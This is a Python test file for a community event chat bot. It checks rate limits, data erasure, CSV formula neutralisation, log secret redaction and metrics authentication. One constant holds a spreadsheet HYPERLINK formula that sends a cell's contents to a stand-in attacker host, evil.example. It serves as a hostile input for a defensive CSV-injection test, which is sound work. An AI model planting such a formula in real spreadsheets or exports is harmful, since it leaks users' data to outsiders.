"""What a hostile or careless member can do stays bounded: questions are limited before anything is
stored, CSV cells never run as formulas, erasure reaches every table that knows a member, and
secrets and members' text stay out of the logs."""

from __future__ import annotations

import csv
import io
import json
import logging
import socket
from datetime import timedelta

import aiohttp
import pytest
from aiohttp import web
from pythonjsonlogger.json import JsonFormatter
from sqlalchemy import func, insert, select
from sqlalchemy.exc import IntegrityError

from bot.config import ConfigError, Settings, load_settings
from bot.core.app import Core
from bot.housekeeping import tidy
from bot.ops.http import serve, service_app
from bot.ops.logs import SecretRedactor
from bot.runtime import start_reminders
from bot.storage import models
from bot.storage.database import Database
from bot.storage.erasure import registered_tables
from tests.conftest import ORGANIZER_ID, ManualClock, Member, only_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
UNKNOWN = "What is the airport's wifi password?"


async def count(core: Core, model: type) -> int:
    async with core.services.database.session() as session:
        return await session.scalar(select(func.count()).select_from(model)) or 0


async def test_a_flood_of_questions_is_stopped_before_anything_is_stored(core: Core) -> None:
    member = Member(core, user_id="31")
    replies = [only_text(await member.says(f"{UNKNOWN} #{n}")) for n in range(300)]
    limit = core.services.settings.questions_per_minute
    assert all("couldn't find" in reply for reply in replies[:limit])
    assert all("many questions" in reply for reply in replies[limit:])
    assert await count(core, models.AnswerRecord) == limit
    assert await count(core, models.UnansweredQuestion) == limit
    # Another member is not slowed down by the first one.
    assert "AIGC" in only_text(await Member(core, user_id="32").says("Which tracks are there?"))


async def test_the_hourly_limit_holds_for_a_patient_flooder(core: Core, clock: ManualClock) -> None:
    member = Member(core, user_id="33")
    answered = 0
    for _ in range(120):
        clock.advance(timedelta(seconds=20))  # three a minute: under the per-minute limit
        answered += "many questions" not in only_text(await member.says("Which tracks?"))
    assert answered == core.services.settings.questions_per_hour


async def test_one_member_repeating_a_question_counts_once(core: Core, clock: ManualClock) -> None:
    asker, other = Member(core, user_id="34"), Member(core, user_id="35")
    for text in (UNKNOWN, UNKNOWN.upper(), f"  {UNKNOWN}??"):
        await asker.says(text)
        clock.advance(timedelta(minutes=1))
    await other.says(UNKNOWN)
    assert await count(core, models.UnansweredQuestion) == 2
    report = only_text(await Member(core, user_id=ORGANIZER_ID).says("/unanswered"))
    assert f"2× {UNKNOWN}" in report


async def test_answer_records_unanswered_questions_and_stale_previews_expire(
    core: Core, clock: ManualClock
) -> None:
    await Member(core, user_id="36").says(UNKNOWN)
    organizer = Member(core, user_id=ORGANIZER_ID)
    await organizer.says("/announce A draft nobody confirms")
    services = core.services
    clock.advance(timedelta(days=2))
    await tidy(services.database, services.settings, clock.now())
    assert await count(core, models.Broadcast) == 0
    assert await count(core, models.AnswerRecord) == 1  # within the retention period
    clock.advance(timedelta(days=services.settings.answer_retention_days))
    await tidy(services.database, services.settings, clock.now())
    assert await count(core, models.AnswerRecord) == 0
    assert await count(core, models.UnansweredQuestion) == 0


async def test_forgetme_erases_the_members_unanswered_questions(core: Core) -> None:
    member, other = Member(core, user_id="37"), Member(core, user_id="38")
    await member.says(UNKNOWN)
    await other.says(UNKNOWN)
    await member.says("/forgetme")
    report = only_text(await member.presses("forgetme:yes"))
    assert "1 questions" in report
    async with core.services.database.session() as session:
        left = (await session.scalars(select(models.UnansweredQuestion.member_id))).all()
    assert len(left) == 1 and left[0] is not None  # only the other member's


async def test_every_table_that_references_members_is_erased_by_forgetme(core: Core) -> None:
    referencing = {
        table.name
        for table in models.Base.metadata.tables.values()
        for key in table.foreign_keys
        if key.column.table.name == "members"
    }
    assert "unanswered_questions" in referencing
    assert referencing - registered_tables() == set(), "register them with erased_with_member"


async def test_csv_export_neutralises_formulas_from_members(core: Core) -> None:
    member = Member(core, user_id="39", name="-2+3 Ada")
    await member.says("/register aigc-app")
    await member.says(FORMULA)  # the team name
    await member.says("@SUM(1,2)")  # the idea
    [reply] = await Member(core, user_id=ORGANIZER_ID).says("/export")
    assert reply.attachment is not None
    rows = list(csv.reader(io.StringIO(reply.attachment.content.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["team"] == "'" + FORMULA
    assert cells["idea"] == "'@SUM(1,2)"
    assert cells["display_name"] == "'-2+3 Ada"
    assert cells["track"] == "aigc-app"  # ordinary cells are left alone


def test_a_role_grants_organizer_rights_only_in_the_communitys_servers(
    settings_factory,
) -> None:
    settings: Settings = settings_factory(
        discord_organizer_role="Organizers", discord_guild_ids="1"
    )
    assert settings.is_organizer("discord", "5", frozenset({"1:Organizers"}))
    assert not settings.is_organizer("discord", "5", frozenset({"2:Organizers"}))
    assert not settings.is_organizer("discord", "5", frozenset({"Organizers"}))
    unbound: Settings = settings_factory(discord_organizer_role="Organizers")
    assert not unbound.is_organizer("discord", "5", frozenset({"1:Organizers"}))
    assert "BOT_DISCORD_GUILD_IDS" in " ".join(unbound.startup_warnings())


def test_a_short_dashboard_token_stops_start_up(sqlite_url: str) -> None:
    with pytest.raises(ConfigError) as refused:
        load_settings(database_url=sqlite_url, dashboard_token="organizers2024")
    assert "BOT_DASHBOARD_TOKEN" in str(refused.value) and "32" in str(refused.value)
    assert "organizers2024" not in str(refused.value)


def test_secrets_in_extra_fields_of_json_logs_are_blanked(sqlite_url: str) -> None:
    token = "d" * 40
    settings = load_settings(database_url=sqlite_url, dashboard_token=token, metrics_token="m" * 20)
    assert token in settings.secrets() and "m" * 20 in settings.secrets()
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonFormatter("%(levelname)s %(message)s"))
    handler.addFilter(SecretRedactor(settings.secrets()))
    logger = logging.getLogger("test.redaction")
    logger.addHandler(handler)
    try:
        logger.warning("login with %s", token, extra={"form": {"token": token}, "attempt": 3})
    finally:
        logger.removeHandler(handler)
    line = json.loads(stream.getvalue())
    assert token not in stream.getvalue()
    assert line["message"] == "login with ***" and line["attempt"] == 3


async def test_a_failed_statement_does_not_carry_members_text(sqlite_url: str) -> None:
    database = Database(sqlite_url)
    await database.upgrade()
    private = "my phone is 13800138000"
    try:
        with pytest.raises(IntegrityError) as failure:
            async with database.session() as session:
                await session.execute(  # no such member: the foreign key refuses it
                    insert(models.ConversationTurn).values(
                        member_id=999, role="user", text=private, created_at=ManualClock().now()
                    )
                )
        assert private not in str(failure.value)
    finally:
        await database.close()


@web.middleware
async def from_another_machine(request: web.Request, handler):  # type: ignore[no-untyped-def]
    return await handler(request.clone(remote="203.0.113.9"))


@pytest.mark.parametrize(
    ("token", "remote_client", "authorization", "status"),
    [
        (None, False, None, 200),  # loopback, no token configured
        (None, True, None, 403),  # another machine, no token configured
        ("metrics-token-123456", True, None, 401),
        ("metrics-token-123456", True, "Bearer wrong", 401),
        ("metrics-token-123456", True, "Bearer metrics-token-123456", 200),
    ],
)
async def test_metrics_want_the_token_or_a_local_client(
    sqlite_url: str, token: str | None, remote_client: bool, authorization: str | None, status: int
) -> None:
    database = Database(sqlite_url)
    await database.upgrade()
    app = service_app(database, {}, token)
    if remote_client:
        app.middlewares.append(from_another_machine)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    runner = await serve(app, "127.0.0.1", port)
    try:
        headers = {"Authorization": authorization} if authorization else {}
        url = f"http://127.0.0.1:{port}/metrics"
        async with aiohttp.ClientSession() as http, http.get(url, headers=headers) as response:
            assert response.status == status
            body = await response.text()
        assert ("bot_outbox_depth" in body) == (status == 200)
    finally:
        await runner.cleanup()
        await database.close()


async def test_the_scheduling_process_tidies_every_hour(core: Core) -> None:
    scheduler = await start_reminders(core)
    try:
        job = scheduler.scheduler.get_job("housekeeping")
        assert job is not None and job.trigger.interval == timedelta(hours=1)
    finally:
        scheduler.shutdown()
